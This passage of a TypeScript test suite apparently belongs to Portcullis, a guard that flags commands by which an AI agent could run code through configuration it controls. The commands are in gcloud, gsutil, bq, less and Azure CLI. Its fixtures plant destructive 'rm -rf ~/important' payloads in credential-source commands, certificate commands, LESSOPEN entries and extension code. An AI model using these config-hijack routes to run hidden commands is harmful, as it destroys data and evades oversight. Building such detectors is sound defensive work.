    writeFileSync(join(repo, 'k.bin'), compiled([['c', Buffer.from('q\0\x18', 'latin1')]]));
    assert.deepEqual(await findings('LESSKEY=./k.bin less README.md'), []);
    rmSync(join(repo, 'k.bin'));
  });
  it('D8 round 20 `gcloud auth login --cred-file=F` (`activate-service-account --key-file F`, `config set auth/credential_file_override F`) naming the agent\'s external account with an executable source is judged at that call', async () => {
    writeFileSync(join(sys, 'gcloud'), '#!/bin/sh\n', { mode: 0o755 });
    const key = join(repo, 'k.json');
    put(key, JSON.stringify({ type: 'external_account', audience: 'a', subject_token_type: 't', token_url: 'u', credential_source: { executable: { command: 'sh -c "rm -rf ~/important"' } } }));
    for (const command of ['gcloud auth login --cred-file=k.json', 'gcloud auth login --cred-file ./k.json --brief', 'gcloud beta auth login --cred-file="k.json"', `gcloud auth activate-service-account --key-file=${key}`, 'cd .. && gcloud auth login --cred-file app/k.json', `gcloud config set auth/credential_file_override ${key} && gcloud projects list`]) {
      assert.match((await findings(command))[0] ?? '', /`gcloud auth --cred-file [^`]+` \(`[^`]+k\.json`\), which the agent's Unix user can change, sets `credential_source\.executable\.command`/, command);
    }
    // a file the call names that Portcullis cannot know or read fails closed: standard input, a flags file, a stored relative path
    for (const command of ['gcloud auth activate-service-account --key-file=- < k.json', 'gcloud auth login --flags-file=f.yaml', 'gcloud config set auth/credential_file_override k.json']) {
      assert.match((await findings(command))[0] ?? '', /`gcloud auth --cred-file \?` cannot be found/, command);
    }
    // Benign neighbours: a service account key, a browser login, another command's `--key-file`
    put(key, JSON.stringify({ type: 'service_account', client_email: 'ci@p.iam.gserviceaccount.com', private_key: 'k' }));
    for (const command of ['gcloud auth activate-service-account --key-file=k.json', 'gcloud auth login --no-launch-browser', 'gcloud compute ssh vm --ssh-key-file=k.json']) assert.deepEqual(await findings(command), [], command);
    rmSync(key);
  });
  it('D8 round 20 gsutil\'s boto files of the agent\'s (`~/.boto`, BOTO_CONFIG, BOTO_PATH by prefix, export or session) with a plugin folder, a certificate command or an external account make `gsutil` its own', async () => {
    writeFileSync(join(sys, 'gsutil'), '#!/bin/sh\n', { mode: 0o755 });
    const key = join(home, 'k.json');
    put(key, JSON.stringify({ type: 'external_account', credential_source: { executable: { command: 'sh -c "rm -rf ~/important"' } } }));
    const boto = join(home, '.boto');
    for (const [text, sets] of [
      ['[Plugin]\nplugin_directory = /tmp/plugins\n', /sets `\[Plugin\] plugin_directory`, which names `\/tmp\/plugins`, a folder of boto plugins/],
      ['[Credentials]\nuse_client_certificate = True\ncert_provider_command = sh -c "rm -rf ~/important"\n', /sets `\[Credentials\] cert_provider_command`, which runs `sh -c/],
      [`[Credentials]\ngs_external_account_file = ${key}\n`, /included by `[^`]+\.boto`[^]*sets `credential_source\.executable\.command`/],
      [`[DEFAULT]\ngs_external_account_file = ${key}\n`, /sets `credential_source\.executable\.command`/],
      ['[GSUtil]\nstet_binary_path = ~/bin/stet\n', /sets `\[GSUtil\] stet_binary_path`, which runs `[^`]+\/bin\/stet`, which the agent's Unix user can change/],
    ] as const) {
      put(join(home, 'bin', 'stet'), '#!/bin/sh\n');
      put(boto, text);
      assert.match((await findings('gsutil ls gs://bucket'))[0] ?? '', sets, text);
    }
    rmSync(boto);
    put(join(repo, 'b.cfg'), '[Plugin]\nplugin_directory = /tmp/plugins\n');
    for (const [command, context] of [['BOTO_CONFIG=./b.cfg gsutil ls', {}], ['export BOTO_PATH=/etc/boto.cfg:./b.cfg; gsutil ls', {}], ['gsutil ls', { toolEnv: { BOTO_PATH: `/etc/boto.cfg:${join(repo, 'b.cfg')}` } }]] as const) {
      assert.match((await findings(command, context))[0] ?? '', /`BOTO_(CONFIG|PATH)=[^`]+` \(`[^`]+b\.cfg`\), which the agent's Unix user can change, sets `\[Plugin\] plugin_directory`/, `${command} ${JSON.stringify(context)}`);
    }
    // Benign neighbours: a boto file of gsutil's own settings and a user's refresh token, and one of root's with a plugin folder
    put(boto, '[Credentials]\ngs_oauth2_refresh_token = r\n[Boto]\nhttps_validate_certificates = True\n[GSUtil]\ndefault_project_id = p\nparallel_thread_count = 4\n');
    assert.deepEqual(await findings('gsutil ls'), []);
    writeFileSync(join(sys, 'b.cfg'), '[Plugin]\nplugin_directory = /tmp/plugins\n', { mode: 0o644 });
    assert.deepEqual(await findings(`BOTO_CONFIG=${join(sys, 'b.cfg')} gsutil ls`), []);
    rmSync(boto);
    rmSync(key);
    rmSync(join(repo, 'b.cfg'));
    rmSync(join(sys, 'b.cfg'));
    rmSync(join(home, 'bin'), { recursive: true });
  });
  it('D8 round 20 `less -k F` (`-Rk F`, `--lesskey-file=F`, `--lesskey-src F`, abbreviated) naming the agent\'s lesskey file with a variable section makes `less` its own', async () => {
    writeFileSync(join(sys, 'less'), '#!/bin/sh\n', { mode: 0o755 });
    const compiled = (sections: Array<[string, Buffer]>) => Buffer.concat([Buffer.from('\0M+G', 'latin1'), ...sections.flatMap(([l, d]) => [Buffer.from([l.charCodeAt(0), d.length % 64, Math.floor(d.length / 64)]), d]), Buffer.from('xEnd', 'latin1')]);
    put(join(repo, 'k.bin'), '');
    writeFileSync(join(repo, 'k.bin'), compiled([['v', Buffer.from('LESSOPEN\0\x81|sh -c "rm -rf ~/important" %s\0', 'latin1')]]));
    put(join(repo, 'k.src'), '#env\nLESSOPEN = |sh -c "rm -rf ~/important" %s\n');
    for (const command of ['less -k k.bin README.md', 'less -Rkk.bin README.md', 'less --lesskey-file=./k.bin README.md', 'less -z5k k.bin README.md']) {
      assert.match((await findings(command))[0] ?? '', /`less --lesskey-file [^`]+` \(`[^`]+k\.bin`\), which the agent's Unix user can change, sets `a compiled lesskey file`/, command);
    }
    for (const command of ['less --lesskey-src=k.src README.md', 'less --lesskey-s k.src README.md', 'less -R --LESSKEY-SRC=k.src README.md']) {
      assert.match((await findings(command))[0] ?? '', /`less --lesskey-src [^`]+` \(`[^`]+k\.src`\), which the agent's Unix user can change, sets `#env LESSOPEN`/, command);
    }
    // more than one file, or an ambiguous abbreviation, is not followed: fail closed
    for (const command of ['less -k k.bin -k other.bin README.md', 'less --lesskey=k.bin README.md']) assert.match((await findings(command))[0] ?? '', /`less --lesskey-file \?` cannot be found/, command);
    // Benign neighbours: key bindings only, a prompt holding `k`, no lesskey option
    writeFileSync(join(repo, 'k.bin'), compiled([['c', Buffer.from('q\0\x18', 'latin1')]]));
    put(join(repo, 'k.src'), '#command\nq quit\n');
    for (const command of ['less -k k.bin README.md', 'less --lesskey-src=k.src README.md', 'less -Pk README.md', 'less -FRX README.md']) assert.deepEqual(await findings(command), [], command);
    rmSync(join(repo, 'k.bin'));
    rmSync(join(repo, 'k.src'));
  });
  it('D8 round 21 bq\'s flags file of the agent\'s (`~/.bigqueryrc`, `--bigqueryrc=F`, BIGQUERYRC by prefix, export or session) naming an external account with an executable source, its credential cache, or a credential file on its line make `bq` its own', async () => {
    writeFileSync(join(sys, 'bq'), '#!/bin/sh\n', { mode: 0o755 });
    const key = join(home, 'k.json');
    const external = { type: 'external_account', audience: 'a', subject_token_type: 't', token_url: 'u', credential_source: { executable: { command: 'sh -c "rm -rf ~/important"' } } };
    put(key, JSON.stringify(external));
    const rc = join(home, '.bigqueryrc');
    for (const text of [`--nouse_google_auth\n--application_default_credential_file=${key}\n`, `[ls]\ncredential_file = ${key}\n`, `service_account_credential_file=${key}\n`]) {
      put(rc, `--project_id=p\n${text}`);
      assert.match((await findings('bq ls'))[0] ?? '', /`~\/\.bigqueryrc` \(`[^`]+`\) includes `[^`]+k\.json`|included by `[^`]+\.bigqueryrc`[^]*sets `credential_source\.executable\.command`/, text);
    }
    put(rc, '[query]\ncredential_file = k.json\n');
    assert.match((await findings('bq ls'))[0] ?? '', /sets `\[query\] credential_file`, which names `k\.json`, a credential file found from the working folder/);
    rmSync(rc);
    put(join(repo, 'rc'), `application_default_credential_file = ${key}\n`);
    for (const [command, context] of [['bq --bigqueryrc=rc ls', {}], ['bq -bigqueryrc ./rc ls', {}], ['BIGQUERYRC=./rc bq ls', {}], ['export BIGQUERYRC=./rc; bq ls', {}], ['bq ls', { toolEnv: { BIGQUERYRC: join(repo, 'rc') } }]] as const) {
      assert.match((await findings(command, context))[0] ?? '', /included by `[^`]+\/app\/rc`[^]*sets `credential_source\.executable\.command`/, `${command} ${JSON.stringify(context)}`);
    }
    rmSync(join(repo, 'rc'));
    // bq's own credential cache (each credential serialised as a JSON string), and a credential file on the line
    const cache = join(home, '.bigquery.v2.token');
    put(cache, JSON.stringify({ file_version: 2, credentials: { scopes: JSON.stringify({ _module: 'wrapped_credentials', _base: external }) } }));
    assert.match((await findings('bq ls'))[0] ?? '', /`~\/\.bigquery\.v2\.token` \(`[^`]+`\), which the agent's Unix user can change, sets `credentials\.scopes\._base\.credential_source\.executable\.command`/);
    rmSync(cache);
    assert.match((await findings(`bq --nouse_google_auth --application_default_credential_file=${key} ls`))[0] ?? '', /`bq --credential_file [^`]+` \(`[^`]+k\.json`\), which the agent's Unix user can change, sets `credential_source\.executable\.command`/);
    assert.match((await findings('bq --flagfile=flags ls'))[0] ?? '', /`bq --(bigqueryrc|credential_file) \?` cannot be found/);
    // Benign neighbours: a flags file of bq's own settings, a cache of a user's login, a root-owned flags file's credential file of the operator's
    put(rc, '--project_id=p\n--location=EU\n[query]\n--use_legacy_sql=false\n--api=https://bigquery.googleapis.com\n');
    put(cache, JSON.stringify({ file_version: 2, credentials: { scopes: JSON.stringify({ _module: 'oauth2client_4_0.client', refresh_token: 'r' }) } }));
    for (const command of ['bq ls', 'bq query --nouse_legacy_sql "select 1"']) assert.deepEqual(await findings(command), [], command);
    rmSync(rc);
    rmSync(cache);
    rmSync(key);
  });
  it('D8 round 21 the client-certificate files of the agent\'s (`~/.secureConnect/context_aware_metadata.json`, `$CLOUDSDK_CONFIG/certificate_config.json`, the properties and variables naming others) make gcloud, gsutil and bq run its certificate command, ECP program or library', async () => {
    for (const p of ['gcloud', 'gsutil', 'bq', 'helper', 'ecp']) writeFileSync(join(sys, p), '#!/bin/sh\n', { mode: 0o755 });
    const meta = join(home, '.secureConnect', 'context_aware_metadata.json');
    put(meta, JSON.stringify({ cert_provider_command: ['sh', '-c', 'rm -rf ~/important'] }));
    for (const command of ['gcloud projects list', 'gsutil ls', 'bq ls']) {
      assert.match((await findings(command))[0] ?? '', /`~\/\.secureConnect\/context_aware_metadata\.json` \(`[^`]+`\), which the agent's Unix user can change, sets `cert_provider_command`, which runs `sh -c rm -rf ~\/important`, a shell snippet/, command);
    }
    rmSync(meta);
    const cert = join(home, '.config', 'gcloud', 'certificate_config.json');
    put(join(home, 'bin', 'ecp'), '#!/bin/sh\n');
    put(cert, JSON.stringify({ cert_configs: { workload: { cert_path: '/c', key_path: '/k' } }, libs: { ecp: join(home, 'bin', 'ecp'), ecp_client: join(sys, 'libecp.so') } }));
    assert.match((await findings('gcloud projects list'))[0] ?? '', /certificate_config\.json`\), which the agent's Unix user can change, sets `libs\.ecp`, which runs `[^`]+\/bin\/ecp`, which the agent's Unix user can change/);
    rmSync(cert);
    // a file named by a property (the configuration, or the `config set` call itself) or a variable
    const named = join(repo, 'm.json');
    put(named, JSON.stringify({ cert_provider_command: ['sh', '-c', 'rm -rf ~/important'] }));
    const configuration = join(home, '.config', 'gcloud', 'configurations', 'config_default');
    put(configuration, `[core]\nproject = p\n[context_aware]\nuse_client_certificate = true\nauto_discovery_file_path = ${named}\n`);
    assert.match((await findings('gcloud projects list'))[0] ?? '', /included by `[^`]+config_default`[^]*sets `cert_provider_command`/);
    rmSync(configuration);
    for (const [command, context] of [[`gcloud config set context_aware/certificate_config_file_path ${named}`, {}], ['CLOUDSDK_CONTEXT_AWARE_AUTO_DISCOVERY_FILE_PATH=./m.json gcloud projects list', {}], ['gsutil ls', { toolEnv: { GOOGLE_API_CERTIFICATE_CONFIG: named } }]] as const) {
      assert.match((await findings(command, context))[0] ?? '', /m\.json`\), which the agent's Unix user can change, sets `cert_provider_command`/, `${command} ${JSON.stringify(context)}`);
    }
    assert.match((await findings('gcloud config set context_aware/auto_discovery_file_path m.json'))[0] ?? '', /`gcloud config set context_aware \?` cannot be found/);
    // Benign neighbours: a certificate command and an ECP of root's, workload certificate paths only, the switch alone
    put(meta, JSON.stringify({ cert_provider_command: [join(sys, 'helper'), '--print_certificate'] }));
    put(cert, JSON.stringify({ libs: { ecp: join(sys, 'ecp') }, cert_configs: { workload: { cert_path: '/c', key_path: '/k' } } }));
    for (const command of ['gcloud projects list', 'gsutil ls', 'bq ls', 'gcloud config set context_aware/use_client_certificate true', 'gcloud --access-token-file=t --impersonate-service-account=sa@p.iam.gserviceaccount.com projects list']) assert.deepEqual(await findings(command), [], command);
    rmSync(join(home, '.secureConnect'), { recursive: true });
    rmSync(cert);
    rmSync(named);
    rmSync(join(home, 'bin'), { recursive: true });
  });
  it('D8 round 17 the Azure CLI\'s extensions of the agent\'s (`~/.azure/cliextensions`, Python the CLI imports on every call) make `az` its own', async () => {
    writeFileSync(join(sys, 'az'), '#!/bin/sh\n', { mode: 0o755 });
    assert.deepEqual(await findings('az group list'), []);
    put(join(home, '.azure', 'cliextensions', 'aks-preview', '__init__.py'), 'import os\nos.system("rm -rf ~/important")\n');
    assert.match((await findings('az group list'))[0] ?? '', /^`az` runs what the agent's Unix user configures: it runs the programs of its plugin folder `~\/\.azure\/cliextensions` \(`[^`]+`\), which the agent's Unix user can change/);
    // benign neighbour: the CLI's own configuration without extensions
    rmSync(join(home, '.azure', 'cliextensions'), { recursive: true });
    put(join(home, '.azure', 'config'), '[core]\noutput = table\n');
    assert.deepEqual(await findings('az group list'), []);
    rmSync(join(home, '.azure'), { recursive: true });
  });
});
